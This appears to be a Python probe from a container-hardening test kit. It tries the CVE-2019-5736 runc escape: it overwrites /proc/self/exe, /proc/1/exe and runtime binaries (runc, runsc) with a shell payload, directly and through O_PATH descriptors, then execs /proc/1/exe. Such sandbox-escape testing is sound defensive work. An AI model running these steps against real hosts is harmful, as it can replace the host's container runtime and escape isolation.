# CVE-2019-5736: the runtime's own binary, as /proc/self/exe of a process that enters the container, overwritten.
import os

from kit import attempt, finish, write

for path in ("/proc/self/exe", "/proc/1/exe", "/proc/thread-self/exe", "/usr/bin/python3.11", "/usr/bin/runsc", "/usr/local/sbin/runc"):
    attempt(path, write, path, "#!/bin/sh\nid\n")


def through_descriptor(path):
    handle = os.open(path, os.O_PATH)
    return os.open(f"/proc/self/fd/{handle}", os.O_WRONLY | os.O_TRUNC)


for path in ("/proc/self/exe", "/proc/1/exe"):
    attempt(f"{path} by descriptor", through_descriptor, path)
child = os.fork()
if child == 0:
    try:
        os.execv("/proc/1/exe", ["runc", "init"])
    except OSError as refusal:
        print(f"refused  execute /proc/1/exe: {refusal}")
    os._exit(0)
os.waitpid(child, 0)
finish()
